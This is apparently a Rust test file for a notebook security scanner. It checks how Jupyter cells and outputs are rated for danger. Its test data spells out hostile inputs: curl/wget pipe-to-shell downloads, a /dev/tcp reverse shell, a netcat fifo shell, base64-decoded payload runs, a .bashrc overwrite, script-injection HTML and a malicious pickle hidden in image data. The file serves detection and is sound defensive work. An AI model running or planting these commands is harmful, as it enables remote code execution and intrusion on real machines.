//! Notebooks cell by cell, and what is said of them.

use lazaret_core::Severity;
use proptest::prelude::*;

use crate::formats::protobuf::tests::{scan, told};

fn text_of(cells: &[String]) -> String {
    format!(r#"{{"cells":[{}],"metadata":{{}},"nbformat":4,"nbformat_minor":5}}"#, cells.join(","))
}

fn cell(kind: &str, source: &str, outputs: &str) -> String {
    let source = serde_json::Value::from(source);
    format!(r#"{{"cell_type":"{kind}","metadata":{{}},"source":{source},"outputs":[{outputs}]}}"#)
}

fn worst(cells: &[String]) -> Option<(&'static str, Severity)> {
    let report = scan(text_of(cells), "a.ipynb");
    assert_eq!(report.format.0, "notebook");
    let worst = report.findings.iter().max_by_key(|finding| finding.severity);
    worst.map(|finding| (finding.id, finding.severity))
}

#[test]
fn what_cells_hand_to_a_shell_is_judged() {
    for (source, severity) in [
        ("!curl http://x/y | sh", Severity::Critical),
        ("x = 1\n!wget -qO- http://x/y | sudo bash -s", Severity::Critical),
        ("!!curl http://x/y | python3", Severity::Critical),
        ("out = !curl http://x/y | sh", Severity::Critical),
        ("%system curl http://x/y | sh", Severity::Critical),
        ("%sx bash <(curl -s http://x/y)", Severity::Critical),
        ("!sh -c \"$(curl -fsSL http://x/y)\"", Severity::Critical),
        ("!curl http://x/y \\\n  | sh", Severity::Critical),
        ("!echo aGk= | base64 -d | bash", Severity::Critical),
        ("!wget http://x/y && chmod +x y && ./y", Severity::Critical),
        ("!bash -i >& /dev/tcp/1.2.3.4/99 0>&1", Severity::Critical),
        ("!curl host/x -o y; bash y", Severity::Critical),
        ("%%writefile /root/.bashrc\ncurl http://x/y | sh", Severity::High),
        ("!base64 -d x > y; sh y", Severity::Critical),
        ("!echo aGk= | base64 -d > y\n!sh y", Severity::Medium),
        ("!mkfifo /tmp/f; nc 1.2.3.4 9 < /tmp/f", Severity::Critical),
        ("!sh -c \"$(echo aGk= | base64 -d)\"", Severity::Critical),
        ("%%bash\ncurl http://x/y | sh", Severity::Critical),
        ("%%script bash\ncurl http://x/y -o y\nbash y", Severity::Critical),
        ("get_ipython().system('curl http://x/y | sh')", Severity::Critical),
        ("%run http://x/y.py", Severity::Critical),
        ("%run ../../y.py", Severity::High),
        ("%%bash\nmake", Severity::Medium),
        ("!./configure", Severity::Medium),
        ("!pip install http://x/y.whl", Severity::Medium),
        ("!pip install --index-url http://x y", Severity::Medium),
        ("!ls; rm -r x", Severity::Medium),
        ("%run y.py", Severity::Medium),
        ("%load_ext evil", Severity::Medium),
        ("get_ipython().run_line_magic('sx', 'x')", Severity::Medium),
        ("!pip install einops", Severity::Low),
        ("!nvidia-smi", Severity::Low),
        ("%pip install einops", Severity::Low),
    ] {
        assert_eq!(worst(&[cell("code", source, "")]), Some(("notebook.command", severity)), "{source}");
    }
    let old = r#"{"worksheets":[{"cells":[{"cell_type":"code","input":["!curl http://x | sh"],"outputs":[]}]}],"nbformat":3}"#;
    assert_eq!(told(&scan(old, "a.ipynb")), ["notebook.command a.ipynb!worksheets[0].cells[0].input"]);
}

#[test]
fn python_of_all_cells_is_one_program() {
    let found = worst(&[cell("code", "import os as o", ""), cell("code", "%time o.system('true')", "")]);
    assert_eq!(found, Some(("python.dangerous-call", Severity::High)));
    let found = worst(&[cell("code", "%%time\nimport subprocess\nsubprocess.run('true')", "")]);
    assert_eq!(found, Some(("python.dangerous-call", Severity::High)));
    // IPython evaluates what stands in braces before a shell or a magic gets the line.
    for line in
        ["!ls {s('true')}", "%cd {s({1: 'true'}[1])}", "%%bash {s('true')}\nls", "a = !ls {{{s('true')}}}"]
    {
        let found = worst(&[cell("code", "from os import system as s", ""), cell("code", line, "")]);
        assert_eq!(found, Some(("python.dangerous-call", Severity::High)), "{line}");
    }
    let found = worst(&[cell("code", "!awk '{print $1 \"(\"}' x\n!echo {len(x)} ${HOME}", "")]);
    assert_eq!(found.map(|(id, _)| id), Some("notebook.command"));
}

#[test]
fn outputs_that_a_browser_runs_are_told() {
    let shown = |kind: &str, text: &str| {
        let text = serde_json::Value::from(text);
        cell(
            "code",
            "1",
            &format!(r#"{{"output_type":"display_data","metadata":{{}},"data":{{"{kind}":{text}}}}}"#),
        )
    };
    let active = Some(("notebook.active-output", Severity::Medium));
    for (kind, text) in [
        ("text/html", "<script>fetch('http://x')</script>"),
        ("text/html", "<p><img src=x onerror=alert(1)></p>"),
        ("text/html", "<iframe src='http://x'></iframe>"),
        ("application/javascript", "alert(1)"),
        ("image/svg+xml", "<svg onload='alert(1)'/>"),
    ] {
        assert_eq!(worst(&[shown(kind, text)]), active, "{text}");
    }
    assert_eq!(worst(&[cell("markdown", "<img src=x onerror='alert(1)'>", "")]), active);
    assert_eq!(worst(&[cell("code", "%%javascript\nalert(1)", "")]), active);
    let calls = lazaret_input::base64::encode(b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.");
    let behind = [&[7; 20][..], b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R."].concat();
    let behind = worst(&[shown("image/png", &lazaret_input::base64::encode(&behind))]);
    assert_eq!(behind.map(|(_, severity)| severity), Some(Severity::Critical));
    assert_eq!(worst(&[shown("image/png", &calls)]).map(|(_, severity)| severity), Some(Severity::Critical));
}

#[test]
fn usual_notebooks_are_quiet() {
    let table = r#"{"output_type":"execute_result","metadata":{},"data":{"text/html":"<table><tr><td>1 < 2</td></tr></table>",
        "text/plain":"1","image/png":"iVBORw0KGgo="}}"#;
    for notebook in [
        cell(
            "code",
            "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport pandas as pd\ndf = pd.DataFrame()",
            table,
        ),
        cell(
            "code",
            "a = 7 % 3\nb = a != 2\nx = {'a': '!ls'}\nprint('%d' % a)\nif not a:\n    raise ValueError",
            "",
        ),
        cell("code", "%%time\ntotal = sum(range(10))", ""),
        cell("markdown", "# Title\nuse `!pip install x`, <b>bold</b>, a < b and on = off", ""),
    ] {
        assert_eq!(worst(std::slice::from_ref(&notebook)), None, "{notebook}");
    }
    assert_eq!(scan(r#"{"nbformat":4,"cells":[]}"#, "a.json").format.0, "json");
}

proptest! {
    #[test]
    fn any_cell_ends(source in "(!|%|%%|bash|=|\\||sh|\\$\\(|`|curl|\n|\\\\| |<|\\PC){0,40}") {
        scan(text_of(&[cell("code", &source, ""), cell("markdown", &source, "")]), "a.ipynb");
    }
}
